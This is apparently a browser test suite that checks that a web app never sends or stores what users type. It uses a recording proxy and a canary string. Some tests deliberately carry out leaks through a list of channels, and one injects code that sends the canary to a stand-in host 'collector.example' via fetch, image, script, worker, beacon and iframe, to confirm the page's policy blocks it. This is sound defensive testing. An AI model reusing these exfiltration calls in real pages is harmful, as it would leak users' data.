/**
 * Nothing that is typed leaves the page.
 *
 * The oracle is a recording server that is both the page's host and the browser's proxy. What the page's policy stops
 * is one matter (asserted apart); here, nothing may even be tried.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { join } from 'node:path';
import { BASE, DIST, ROOT, kept, launch, open } from './lib/browser.mjs';
import { CANARY, carrying, foreign, lines, pages } from './lib/canary.mjs';
import { adapt, ask, attribute, playwright, ready } from './lib/journey.mjs';
import { serve } from './lib/server.mjs';

/** Long enough for anything that waits for a timer, a retry or the end of the page. */
const SETTLE_MS = 2_000;

let server;
let browser;
before(async () => {
  server = await serve({ [BASE]: DIST, '/pages/': join(ROOT, 'tests/browser/pages') });
  browser = await launch({ proxy: server.proxy });
});
after(async () => {
  await browser?.close();
  await server?.close();
});

const settle = () => new Promise((resolve) => setTimeout(resolve, SETTLE_MS));

test('the whole journey sends nothing', { timeout: 300_000 }, async () => {
  const { context, page, expectQuiet } = await open(browser, { permissions: ['clipboard-read', 'clipboard-write'] });
  await page.addInitScript(() => {
    globalThis.peers = 0;
    globalThis.RTCPeerConnection = class {
      constructor() {
        globalThis.peers += 1;
      }
    };
  });
  const first = server.requests.length;
  await page.goto(`${server.origin}${BASE}#${CANARY}`);
  const driver = playwright(page);
  await ready(driver);
  await kept(page);
  await settle();
  const loaded = server.requests.length;
  assert.ok(loaded > first + 3, 'the recording server saw no page being loaded');

  await driver.fill('shot-input-0', `${CANARY} ${await page.getByTestId('shot-input-0').inputValue()}`);
  await driver.fill('shot-output-1', CANARY);
  await page.getByTestId('paste').locator('summary').click();
  await driver.fill('paste-text', JSON.stringify({ input: `the ${CANARY}`, output: CANARY }));
  await driver.click('paste-shots');
  await page.getByTestId('budget').fill('60');
  await page.getByTestId('budget').blur();
  await adapt(driver);
  await ask(driver, `${CANARY} and ${await page.getByTestId('try-example-0').textContent()}`);
  for (const id of ['download-module', 'download-record']) {
    await Promise.all([page.waitForEvent('download'), driver.click(id)]);
  }
  await page.locator('details:has([data-testid="copy-code"]) > summary').click();
  await driver.click('copy-code');
  assert.equal(await attribute(driver, 'try-base', 'data-status'), 'done');

  assert.deepEqual(await stored(page), [], 'what was typed was stored');
  assert.equal(await page.evaluate(() => globalThis.peers), 0, 'the page opened a peer connection');
  expectQuiet();
  await page.close({ runBeforeUnload: true });
  await settle();
  assert.deepEqual(lines(pages(server.requests.slice(loaded))), [], 'requests after the page was loaded');
  assert.deepEqual(lines(foreign(server.requests.slice(first))), [], 'requests to other hosts');
  assert.deepEqual(lines(carrying(server.requests.slice(first))), [], 'requests that carry what was typed');
  await context.close();
});

describe('the oracle sees a page that leaks', () => {
  const ways = [
    'fetch', 'same-origin', 'body', 'base64', 'header', 'beacon', 'image', 'style', 'websocket', 'https', 'navigation', 'popup', 'worker', 'unload',
  ];
  // The browser's own tunnel hides these two's words, not that they were sent.
  const opaque = ['websocket', 'https'];
  for (const way of ways) {
    test(way, { timeout: 30_000 }, async () => {
      const { context, page } = await open(browser);
      await page.goto(`${server.origin}/pages/leak.html?by=${way}`);
      const before = server.requests.length;
      await page.getByTestId('text').fill(CANARY);
      await page.getByTestId('text').blur();
      if (way === 'unload') await page.close({ runBeforeUnload: true });
      const seen = () => {
        const made = server.requests.slice(before);
        return opaque.includes(way) ? foreign(made).length : carrying(made).length;
      };
      const deadline = Date.now() + 10_000;
      while (seen() === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
      assert.ok(seen() > 0, `${way} left no trace in the record`);
      await context.close();
    });
  }
});

test("the page's policy stops what injected code would send", { timeout: 60_000 }, async () => {
  const { context, page } = await open(browser);
  await page.goto(server.origin + BASE);
  await ready(playwright(page));
  await kept(page);
  const before = server.requests.length;
  const outcomes = await page.evaluate(async (word) => {
    const there = `http://collector.example/c?${word}`;
    const failed = async (promise) => promise.then(() => 'sent', () => 'stopped');
    const violations = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const image = (src) => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src }));
    const results = {
      fetch: await failed(fetch(there)),
      image: await failed(image(there)),
      script: await failed(
        new Promise((resolve, reject) => {
          const script = Object.assign(document.createElement('script'), { onload: resolve, onerror: reject });
          script.src = there;
          document.head.append(script);
        }),
      ),
      worker: await failed((async () => new Worker(URL.createObjectURL(new Blob([`fetch("${there}")`]))))()),
    };
    navigator.sendBeacon(there);
    document.body.append(Object.assign(document.createElement('iframe'), { src: there }));
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { results, violations };
  }, CANARY);
  assert.deepEqual(outcomes.results, { fetch: 'stopped', image: 'stopped', script: 'stopped', worker: 'stopped' });
  for (const directive of ['connect-src', 'img-src', 'frame-src']) {
    assert.ok(outcomes.violations.includes(directive), `${directive} was not enforced: ${outcomes.violations.join(', ')}`);
  }
  await settle();
  assert.deepEqual(lines(pages(server.requests.slice(before))), []);
  await context.close();
});

/** Where in the origin's storage the canary is found. */
function stored(page) {
  return page.evaluate(async (word) => {
    const found = [];
    const look = (where, text) => void (text.includes(word) && found.push(where));
    for (const [name, storage] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]]) {
      look(name, JSON.stringify({ ...storage }));
    }
    look('cookie', document.cookie);
    look('window.name', window.name);
    look('history', JSON.stringify(history.state ?? ''));
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        look(`cache ${name}`, decodeURIComponent(request.url));
        const response = await cache.match(request);
        if (response) look(`cache ${request.url}`, new TextDecoder('latin1').decode(await response.arrayBuffer()));
      }
    }
    const walk = async (folder, path) => {
      for await (const [name, handle] of folder.entries()) {
        look(`files ${path}`, name);
        if (handle.kind === 'directory') await walk(handle, `${path}/${name}`);
        else look(`files ${path}/${name}`, new TextDecoder('latin1').decode(await (await handle.getFile()).arrayBuffer()));
      }
    };
    await walk(await navigator.storage.getDirectory(), '');
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise((resolve, reject) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      for (const store of db.objectStoreNames) {
        const rows = await new Promise((resolve, reject) => {
          const request = db.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        look(`database ${name}/${store}`, JSON.stringify(rows));
      }
      db.close();
    }
    return found;
  }, CANARY);
}
